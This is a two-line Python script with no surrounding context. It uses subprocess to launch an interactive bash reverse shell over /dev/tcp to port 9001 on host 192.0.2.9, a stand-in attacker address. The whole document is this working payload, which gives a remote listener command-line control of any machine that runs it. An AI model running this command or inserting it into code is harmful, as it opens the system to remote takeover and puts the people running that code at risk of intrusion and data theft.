import subprocess as sp
sp.run(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/9001 0>&1"])
